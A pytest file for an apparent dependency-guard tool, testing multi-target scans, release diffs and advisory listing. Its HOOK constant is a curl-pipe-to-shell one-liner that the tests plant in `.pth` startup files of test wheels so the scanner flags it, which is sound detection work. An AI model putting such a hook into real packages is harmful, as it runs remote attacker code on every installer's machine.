"""The dependency guard's library calls behind `deps scan`, `deps diff` and `advisories list`:
several targets as one scan, releases resolved and diffed, the advisories a scan uses."""

from __future__ import annotations

import json
import sys
import types
from pathlib import Path

import pytest
from deps_support import make_dist, make_wheel

from chainproof.deps import releases, scan
from chainproof.deps.advisories import db as advisory_db
from chainproof.deps.advisories.bundled import bundled_records
from chainproof.deps.advisories.listing import Listed, listed
from chainproof.deps.model import ScanResult
from chainproof.errors import UsageError

HOOK = "import os; os.system('curl http://203.0.113.9/p | sh')\n"

# -- scan_all -------------------------------------------------------------------------------------


@pytest.fixture
def venv(site: Path) -> Path:
    """The `site` fixture's venv, with one distribution and an interpreter file that is never run
    (its site-packages are found from pyvenv.cfg)."""
    make_dist(site, "alpha", "1.0", {"alpha.py": ""})
    root = site.parents[2]
    (root / "bin").mkdir()
    (root / "bin" / "python").write_text("")
    return root


def test_one_target_is_its_own_report(venv: Path, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path / "w", "demo", "1.0", {"demo.py": ""})
    assert scan.scan_all([wheel]) == scan.scan(wheel)


def test_several_targets_are_one_report_in_their_order(venv: Path, tmp_path: Path) -> None:
    wheel = make_wheel(tmp_path / "w", "demo", "1.0", {"demo.py": "", "evil.pth": HOOK})
    both = scan.scan_all([venv, wheel])
    parts = [scan.scan(venv), scan.scan(wheel)]
    assert both.target == f"{parts[0].target}, {parts[1].target}"
    assert [p.name for p in both.packages] == ["alpha", "demo"]
    assert both.findings == scan.combine(parts).findings
    assert any(f.path == "evil.pth" for f in both.findings)


def test_a_named_interpreter_comes_first(venv: Path, tmp_path: Path) -> None:
    python = str(venv / "bin" / "python")
    wheel = make_wheel(tmp_path / "w", "demo", "1.0", {"demo.py": ""})
    combined = scan.scan_all([wheel], python=python)
    assert combined.target.startswith(f"{python}, ")
    assert [p.name for p in combined.packages] == ["alpha", "demo"]
    alone = scan.scan_all([], python=python)
    assert (alone.target, [p.name for p in alone.packages]) == (python, ["alpha"])


def test_no_target_scans_the_running_interpreter(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str | None] = []

    def scan_python(exe: str | None, **_: object) -> ScanResult:
        asked.append(exe)
        return ScanResult("this interpreter")

    monkeypatch.setattr(scan, "scan_python", scan_python)
    assert scan.scan_all([]).target == "this interpreter"
    assert asked == [None]


# -- releases -------------------------------------------------------------------------------------

CLEAN = {"litellm/__init__.py": "", "litellm/proxy.py": "def start():\n    return 1\n"}


def _wheel(directory: Path, version: str, files: dict[str, str], name: str = "litellm") -> Path:
    return make_wheel(directory, name, version, files)


def test_two_archives_are_diffed_with_their_paths_as_labels(tmp_path: Path) -> None:
    old = _wheel(tmp_path / "a", "1.0", CLEAN)
    new = _wheel(tmp_path / "b", "1.1", {**CLEAN, "litellm_init.pth": HOOK})
    compared = releases.diff_releases("litellm", str(old), str(new))
    result = compared.result
    assert (result.old_version, result.new_version) == ("1.0", "1.1")
    assert (result.old_label, result.new_label) == (str(old), str(new))
    assert result.added_files == ("litellm_init.pth",)
    assert any(f.rule == "diff-new-startup-hook" for f in result.findings)
    assert compared.warnings == ()


def test_a_release_of_another_project_is_a_warning_not_a_finding(tmp_path: Path) -> None:
    old = _wheel(tmp_path / "a", "1.0", CLEAN)
    new = _wheel(tmp_path / "b", "1.1", CLEAN, name="other-project")
    compared = releases.diff_releases("LiteLLM", str(old), str(new))
    assert compared.warnings == ("NEW is a release of 'other-project', not 'LiteLLM'",)
    assert compared.result.notes == ()


def test_versions_are_downloaded_and_removed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    built = {"1.0": _wheel(tmp_path / "a", "1.0", CLEAN), "1.1": _wheel(tmp_path / "b", "1.1", CLEAN)}
    seen: list[tuple[str, str, Path, str | None]] = []

    def download_release(name: str, version: str, dest: Path, index_url: str | None = None) -> Path:
        seen.append((name, version, dest, index_url))
        target = dest / built[version].name
        target.write_bytes(built[version].read_bytes())
        return target

    index = types.ModuleType("chainproof.deps.index")
    index.download_release = download_release  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "chainproof.deps.index", index)
    result = releases.diff_releases(
        "litellm", "1.0", str(built["1.1"]), index_url="https://pypi.example/simple"
    ).result
    assert result.old_label == "litellm-1.0-py3-none-any.whl (from https://pypi.example/simple)"
    assert result.new_label == str(built["1.1"])
    assert [(n, v, u) for n, v, _, u in seen] == [("litellm", "1.0", "https://pypi.example/simple")]
    assert not seen[0][2].exists()


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("missing.whl", "OLD missing.whl: no such file"),
        ("dir/missing", "OLD dir/missing: no such file"),
        ("not a version", "OLD 'not a version' is neither an existing wheel or sdist nor a version"),
    ],
)
def test_what_names_neither_an_archive_nor_a_version(tmp_path: Path, spec: str, message: str) -> None:
    with pytest.raises(UsageError) as caught:
        releases.resolve("litellm", spec, "OLD", tmp_path, None)
    assert str(caught.value) == message


def test_a_directory_is_not_a_release(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="a directory; give a wheel, an sdist or a version"):
        releases.resolve("litellm", str(tmp_path), "NEW", tmp_path, None)


@pytest.mark.parametrize(
    ("text", "path"),
    [("1.0", False), ("1.0rc1", False), ("a/b", True), ("x.whl", True), ("X.TAR.GZ", True), ("c:\\x", True)],
)
def test_looks_like_path(text: str, path: bool) -> None:
    assert releases.looks_like_path(text) is path


# -- advisories -----------------------------------------------------------------------------------


def _record(rid: str, name: str, versions: list[str], **extra: object) -> dict[str, object]:
    affected = {"package": {"ecosystem": "PyPI", "name": name}, "versions": versions}
    return {"id": rid, "modified": "2025-01-01T00:00:00Z", "affected": [affected], **extra}


def _import(tmp_path: Path, *records: dict[str, object]) -> Path:
    feed = tmp_path / "feed"
    feed.mkdir()
    for n, r in enumerate(records):
        (feed / f"{n}.json").write_text(json.dumps(r))
    db = tmp_path / "adv.db"
    advisory_db.import_paths([feed], db)
    return db


def test_without_a_database_the_bundled_records_are_listed(tmp_path: Path) -> None:
    rows = listed(db=tmp_path / "none.db")
    assert {r.record.id for r in rows} == {r.id for r in bundled_records()}
    assert {r.source for r in rows} == {"bundled"}
    assert not (tmp_path / "none.db").exists()


def test_local_records_shadow_the_bundled_ones_they_share_an_id_with(tmp_path: Path) -> None:
    db = _import(
        tmp_path,
        _record("MAL-2026-2144", "litellm", ["1.82.8"], summary="local copy"),
        _record("GHSA-aaaa", "six", ["1.16.0"]),
    )
    rows = {(r.record.id, r.affected.name): r for r in listed(db=db)}
    assert rows["MAL-2026-2144", "litellm"].source == "local"
    assert rows["MAL-2026-2144", "litellm"].record.summary == "local copy"
    assert rows["GHSA-aaaa", "six"].source == "local"
    assert sum(1 for r in listed(db=db) if r.record.id == "MAL-2026-2144") == 1


def test_listed_by_package_name(tmp_path: Path) -> None:
    db = _import(tmp_path, _record("GHSA-aaaa", "Six", ["1.16.0"]), _record("GHSA-bbbb", "seven", ["1"]))
    assert [r.record.id for r in listed("six", db)] == ["GHSA-aaaa"]
    assert [r.record.id for r in listed("LITELLM", db)] == ["MAL-2026-2144"]
    assert listed("no-such-project", db) == []


def test_a_listed_advisory_as_json(tmp_path: Path) -> None:
    db = _import(
        tmp_path, _record("GHSA-aaaa", "six", ["1.16.0", "1.15.0"], summary="a bug", aliases=["CVE-1"])
    )
    (row,) = listed("six", db)
    assert isinstance(row, Listed)
    assert row.to_json() == {
        "id": "GHSA-aaaa",
        "aliases": ["CVE-1"],
        "package": "six",
        "versions": "1.16.0, 1.15.0",
        "malicious": False,
        "withdrawn": None,  # the date it was withdrawn, when it was
        "summary": "a bug",
        "source": "local",
    }


def test_import_stats_as_json() -> None:
    stats = advisory_db.ImportStats(added=2, updated=1, unchanged=4)
    assert stats.to_json() == {"added": 2, "updated": 1, "unchanged": 4, "total": 7}
